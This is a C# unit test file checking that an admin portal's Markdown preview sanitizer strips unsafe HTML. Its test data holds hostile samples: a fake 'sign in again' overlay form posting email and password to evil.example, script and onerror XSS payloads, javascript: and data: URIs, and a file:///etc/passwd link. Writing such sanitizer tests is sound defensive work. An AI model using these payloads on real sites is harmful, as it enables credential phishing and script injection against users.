using AdminPortal.App.Features.Posts;
using AngleSharp.Html.Parser;

namespace AdminPortal.Tests.Features.Posts;

/// <summary>The preview's allow-list: what Markdown produces survives, everything else is gone.</summary>
public class PostMarkdownTests
{
    private static AngleSharp.Dom.IElement Render(string markdown)
    {
        string html = PostMarkdown.ToSafeHtml("# Title\n\n" + markdown);
        var body = new HtmlParser().ParseDocument("<!doctype html><body>" + html).Body!;
        Assert.NotNull(body.QuerySelector("h1"));
        return body;
    }

    [Theory]
    [InlineData("<form action=\"https://evil.example/steal\" method=\"post\"><p>Session expired</p></form>", "form")]
    [InlineData("<input name=\"password\" type=\"password\">", "input")]
    [InlineData("<button type=\"submit\">Sign in again</button>", "button")]
    [InlineData("<textarea>x</textarea>", "textarea")]
    [InlineData("<select><option>x</option></select>", "select")]
    [InlineData("<iframe src=\"https://evil.example\"></iframe>", "iframe")]
    [InlineData("<object data=\"https://evil.example/x.swf\"></object>", "object")]
    [InlineData("<embed src=\"https://evil.example/x.swf\">", "embed")]
    [InlineData("<style>body { display: none }</style>", "style")]
    [InlineData("<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">", "link")]
    [InlineData("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">", "meta")]
    [InlineData("<script>alert(1)</script>", "script")]
    [InlineData("<svg onload=\"alert(1)\"><circle r=\"5\"/></svg>", "svg")]
    [InlineData("<math><mi>x</mi></math>", "math")]
    [InlineData("<base href=\"https://evil.example/\">", "base")]
    [InlineData("<details open><summary>x</summary>y</details>", "details")]
    [InlineData("<dialog open>Sign in again</dialog>", "dialog")]
    [InlineData("<video src=\"https://evil.example/x.mp4\"></video>", "video")]
    [InlineData("<audio src=\"https://evil.example/x.mp3\"></audio>", "audio")]
    [InlineData("<template><p>x</p></template>", "template")]
    public void ToSafeHtml_ElementOutsideTheAllowList_IsRemovedWithItsContent(string markdown, string element)
    {
        var body = Render(markdown);

        Assert.Empty(body.QuerySelectorAll(element));
        Assert.DoesNotContain("Session expired", body.TextContent);
        Assert.DoesNotContain("Sign in again", body.TextContent);
    }

    [Theory]
    [InlineData("<p style=\"position:fixed;inset:0;z-index:9999\">Overlay</p>", "style")]
    [InlineData("<p class=\"mud-overlay fixed\">Overlay</p>", "class")]
    [InlineData("<p id=\"location\">Clobber</p>", "id")]
    [InlineData("<a name=\"config\" href=\"https://example.com\">Clobber</a>", "name")]
    [InlineData("<p onclick=\"alert(1)\">Click</p>", "onclick")]
    [InlineData("<img src=\"x\" onerror=\"alert(1)\">", "onerror")]
    [InlineData("<p data-x=\"1\">Data</p>", "data-x")]
    [InlineData("<a href=\"https://example.com\" formaction=\"https://evil.example\">x</a>", "formaction")]
    [InlineData("<p tabindex=\"1\" accesskey=\"s\">x</p>", "tabindex")]
    [InlineData("```csharp\nvar x = 1;\n```", "class")]
    public void ToSafeHtml_AttributeOutsideTheAllowList_IsRemoved(string markdown, string attribute)
    {
        var body = Render(markdown);

        Assert.Empty(body.QuerySelectorAll($"[{attribute}]"));
    }

    [Theory]
    [InlineData("[x](javascript:alert(1))")]
    [InlineData("[x](JaVaScRiPt:alert(1))")]
    [InlineData("[x](vbscript:msgbox(1))")]
    [InlineData("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)")]
    [InlineData("<a href=\"  javascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"file:///etc/passwd\">x</a>")]
    [InlineData("<a href=\"ftp://example.com/x\">x</a>")]
    public void ToSafeHtml_LinkWithAnotherScheme_LosesItsAddress(string markdown)
    {
        var body = Render(markdown);

        var link = Assert.Single(body.QuerySelectorAll("a"));
        Assert.Null(link.GetAttribute("href"));
    }

    [Theory]
    [InlineData("[site](https://example.com/a?b=c)", "https://example.com/a?b=c")]
    [InlineData("[site](http://example.com/)", "http://example.com/")]
    [InlineData("[mail](mailto:editor@example.com)", "mailto:editor@example.com")]
    [InlineData("<https://example.com/auto>", "https://example.com/auto")]
    public void ToSafeHtml_HttpHttpsMailtoLink_OpensInANewTabWithoutReferrer(string markdown, string href)
    {
        var body = Render(markdown);

        var link = Assert.Single(body.QuerySelectorAll("a"));
        Assert.Equal(href, link.GetAttribute("href"));
        Assert.Equal("noopener noreferrer nofollow", link.GetAttribute("rel"));
        Assert.Equal("_blank", link.GetAttribute("target"));
    }

    [Theory]
    [InlineData("![A chart](https://tracker.example/pixel.png?who=admin)", "A chart", "https://tracker.example/pixel.png?who=admin")]
    [InlineData("<img src=\"http://tracker.example/p.gif\" alt=\"Logo\">", "Logo", "http://tracker.example/p.gif")]
    [InlineData("<img src=\"https://tracker.example/p.gif\" srcset=\"https://tracker.example/2x.gif 2x\">", "https://tracker.example/p.gif", "https://tracker.example/p.gif")]
    public void ToSafeHtml_RemoteImage_IsNotLoadedButNamedWithALink(string markdown, string label, string href)
    {
        var body = Render(markdown);

        Assert.Empty(body.QuerySelectorAll("img"));
        Assert.DoesNotContain("srcset", body.InnerHtml);
        var placeholder = Assert.Single(body.QuerySelectorAll("[data-image-placeholder]"));
        Assert.Equal($"Image not loaded in the preview: {label}", placeholder.TextContent);
        var link = Assert.Single(placeholder.QuerySelectorAll("a"));
        Assert.Equal(href, link.GetAttribute("href"));
        Assert.Equal("noopener noreferrer nofollow", link.GetAttribute("rel"));
    }

    [Theory]
    [InlineData("![x](javascript:alert(1))")]
    [InlineData("![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)")]
    public void ToSafeHtml_ImageWithAnotherScheme_IsAPlaceholderWithoutALink(string markdown)
    {
        var body = Render(markdown);

        Assert.Empty(body.QuerySelectorAll("img"));
        var placeholder = Assert.Single(body.QuerySelectorAll("[data-image-placeholder]"));
        Assert.Equal("Image not loaded in the preview: x", placeholder.TextContent);
        Assert.Empty(placeholder.QuerySelectorAll("a"));
    }

    [Fact]
    public void ToSafeHtml_EverydayMarkdown_KeepsItsStructure()
    {
        var body = Render("""
            ## Section

            Some *emphasis*, **strong**, ~~deleted~~, `code`, H~2~O and x^2^.

            > A quote

            - one
            - two

            1. first
            2. second

            | Name | Value |
            |------|------:|
            | a    | 1     |

            ---

            ```
            code block
            ```

            Term
            :   Definition

            <abbr title="HyperText Markup Language">HTML</abbr> line<br>break
            """);

        foreach (string element in new[] { "h2", "em", "strong", "del", "code", "sub", "sup", "blockquote", "ul", "ol", "li", "table", "thead", "tbody", "th", "td", "hr", "pre", "dl", "dt", "dd", "abbr", "br" })
        {
            Assert.True(body.QuerySelector(element) is not null, $"<{element}> should survive");
        }

        Assert.Equal("HyperText Markup Language", body.QuerySelector("abbr")!.GetAttribute("title"));
        Assert.Empty(body.QuerySelectorAll("[style]"));
    }

    [Fact]
    public void ToSafeHtml_FakeSignInFormInAFullScreenOverlay_LeavesNeitherTheFormNorTheOverlay()
    {
        var body = Render(PhishingMarkdown);

        Assert.Empty(body.QuerySelectorAll("form, input, button, textarea, select, label"));
        Assert.Empty(body.QuerySelectorAll("[style], [class], [id]"));
        Assert.DoesNotContain("Password", body.TextContent);
    }

    /// <summary>An editor's attempt to put a fake "sign in again" dialog in front of whoever opens the preview.</summary>
    public const string PhishingMarkdown = """
        <div class="mud-overlay" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:white" id="phish-overlay">
        <form action="https://evil.example/collect" method="post" id="phish-form">
        <label>Email <input name="email"></label>
        <label>Password <input name="password" type="password"></label>
        <button type="submit">Sign in again</button>
        </form>
        </div>
        """;
}
